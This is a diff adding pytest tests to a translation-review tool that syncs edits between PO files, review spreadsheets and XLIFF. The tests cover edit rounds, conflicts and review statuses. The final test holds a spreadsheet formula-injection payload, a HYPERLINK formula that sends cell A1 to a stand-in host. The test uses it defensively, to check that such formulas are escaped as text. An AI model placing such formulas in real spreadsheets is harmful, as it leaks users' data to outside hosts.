@@ -302,3 +302,132 @@ def test_review_apply_of_tsv_edits_stamps_the_po_and_headers_name_the_model_fold
     )
     metadata = polib.pofile(str(po_path)).metadata
     assert metadata["Last-Translator"] == "Minh <minh@fcm.ca>" and metadata["PO-Revision-Date"] > "2026"
+
+
+# ---------------------------------------------------------------- rounds of edits (#32)
+
+
+def apply(out: Path, *files: Path) -> int:
+    return main(
+        ["review", "apply", *(str(f) for f in files or [out]), "--out", str(out), "--refs", str(REFS)]
+    )
+
+
+def test_a_second_and_third_round_of_tsv_edits_are_applied(translated: Path, capsys) -> None:
+    """The second round was thrown away with exit 0 ('edited in both the PO and the TSV; kept the PO's')."""
+    for round_ in ("First", "Second", "Third"):
+        for sentence in ("1.1", "2.1"):
+            edit_cell(translated, sentence, 2, f"{round_} edit of {sentence}.")
+        assert apply(translated) == 0
+        assert [po_entry(translated, s).msgstr for s in ("1.1", "2.1")] == [
+            f"{round_} edit of 1.1.",
+            f"{round_} edit of 2.1.",
+        ]
+    assert "kept the PO's" not in capsys.readouterr().err
+
+
+def test_a_tsv_edit_after_a_workbench_save_is_applied(translated: Path) -> None:
+    from songngu.app.workbench import Workbench, save_sentence
+
+    bench = Workbench(translated, GLOSSARY)
+    base = po_entry(translated, "1.1").msgstr
+    save_sentence(bench, DOC, "1.1", "Saved on the page.", base, "reviewed")
+    edit_cell(translated, "1.1", 2, "Then edited in the spreadsheet.")
+    assert apply(translated) == 0
+    assert po_entry(translated, "1.1").msgstr == "Then edited in the spreadsheet."
+
+
+def test_an_edit_of_both_the_po_and_the_tsv_names_both_texts_and_exits_1(translated: Path, capsys) -> None:
+    edit_cell(translated, "1.1", 2, "The spreadsheet's English.")
+    po = polib.pofile(str(translated / f"{DOC}.po"))
+    next(e for e in po if e.msgctxt == "1.1").msgstr = "Poedit's English."
+    po.save()
+    assert apply(translated) == 1
+    err = capsys.readouterr().err
+    assert "'Poedit's English.'" in err and "'The spreadsheet's English.'" in err and "TSV" not in err
+    assert po_entry(translated, "1.1").msgstr == "Poedit's English."
+
+
+@pytest.mark.parametrize("spelling", ["done", "OK", "Reviewed", "x"])
+def test_common_spellings_of_reviewed_accept_the_sentence(translated: Path, spelling: str) -> None:
+    edit_cell(translated, "1.1", 3, spelling)
+    assert apply(translated) == 0
+    assert po_entry(translated, "1.1").flags == []
+
+
+def test_a_status_songngu_does_not_know_is_named_with_its_line(translated: Path, capsys) -> None:
+    edit_cell(translated, "2.1", 3, "finished-ish")
+    assert apply(translated) == 0
+    line = next(n for n, r in enumerate(tsv_rows(translated), 1) if r[0] == "2.1")
+    assert f"{DOC}.tsv:{line}: status 'finished-ish' of sentence 2.1 is not one songngu knows" in (
+        capsys.readouterr().err
+    )
+    assert "fuzzy" in po_entry(translated, "2.1").flags
+
+
+def test_an_xliff_file_none_of_whose_units_match_exits_1(translated: Path, tmp_path: Path, capsys) -> None:
+    import re
+
+    xlf = tmp_path / f"{DOC}.returned.xlf"
+    text = (translated / f"{DOC}.xlf").read_text("utf-8")
+    xlf.write_text(re.sub(r'(<trans-unit[^>]* id=")', r"\1x", text), encoding="utf-8")
+    before = (translated / f"{DOC}.po").read_bytes()
+    assert apply(translated, xlf) == 1
+    assert "none of its" in capsys.readouterr().err
+    assert (translated / f"{DOC}.po").read_bytes() == before
+
+
+def test_an_xliff_conflict_names_the_xliff_file_not_the_tsv(translated: Path, tmp_path: Path, capsys) -> None:
+    import re
+
+    text = (translated / f"{DOC}.xlf").read_text("utf-8")
+    xlf = tmp_path / f"{DOC}.returned.xlf"
+    # The CAT tool's translator edits 1.1 while a reviewer changes it in Poedit.
+    first = re.search(r'<trans-unit[^>]* id="1\.1".*?<target[^>]*>(.*?)</target>', text, re.S)
+    assert first is not None
+    xlf.write_text(
+        text[: first.start(1)] + "The CAT tool's English." + text[first.end(1) :], encoding="utf-8"
+    )
+    po = polib.pofile(str(translated / f"{DOC}.po"))
+    next(e for e in po if e.msgctxt == "1.1").msgstr = "Poedit's English."
+    po.save()
+    assert apply(translated, xlf) == 1
+    err = capsys.readouterr().err
+    assert f"{xlf}:" in err and "The CAT tool's English." in err and "TSV" not in err
+
+
+def test_accepting_through_the_tsv_gives_the_po_the_workbench_gives(
+    tiny_model: Path, translated: Path, tmp_path: Path
+) -> None:
+    """The workbench's accept cleared fuzzy and the previous msgid; the TSV's cleared only fuzzy."""
+    from songngu.app.workbench import Workbench, save_sentence
+
+    source = translated.parent / "docs" / f"{DOC}.txt"
+    lines = source.read_text("utf-8").splitlines()
+    source.write_text("\n".join(["Sáng nay, " + lines[0], *lines[1:]]) + "\n", encoding="utf-8")
+    assert rerun(tiny_model, translated) == 0
+    assert po_entry(translated, "1.1").previous_msgid  # the Vietnamese changed: #| msgid
+    other = tmp_path / "other" / "aligned"
+    shutil.copytree(translated, other)
+    english = po_entry(translated, "1.1").msgstr
+    edit_cell(translated, "1.1", 3, "reviewed")
+    assert apply(translated) == 0
+    save_sentence(Workbench(other, GLOSSARY), DOC, "1.1", english, english, "reviewed")
+    by_tsv, by_page = po_entry(translated, "1.1"), po_entry(other, "1.1")
+    assert (by_tsv.flags, by_tsv.previous_msgid) == (by_page.flags, by_page.previous_msgid) == ([], None)
+
+
+# ---------------------------------------------------------------- spreadsheets run formulas (#32)
+
+
+def test_a_formula_saved_on_the_page_is_text_in_the_tsv_and_reads_back_unchanged(translated: Path) -> None:
+    from songngu.app.workbench import Workbench, save_sentence
+    from songngu.review.tsv import read_tsv
+
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
+    base = po_entry(translated, "1.1").msgstr
+    save_sentence(Workbench(translated, GLOSSARY), DOC, "1.1", formula, base, "reviewed")
+    cell = next(r for r in tsv_rows(translated) if r[0] == "1.1")[2]
+    assert cell.startswith("'=") or cell.startswith("\"'=")
+    assert next(p for p in read_tsv(translated / f"{DOC}.tsv") if p.id == "1.1").english == formula
+    assert apply(translated) == 0 and po_entry(translated, "1.1").msgstr == formula
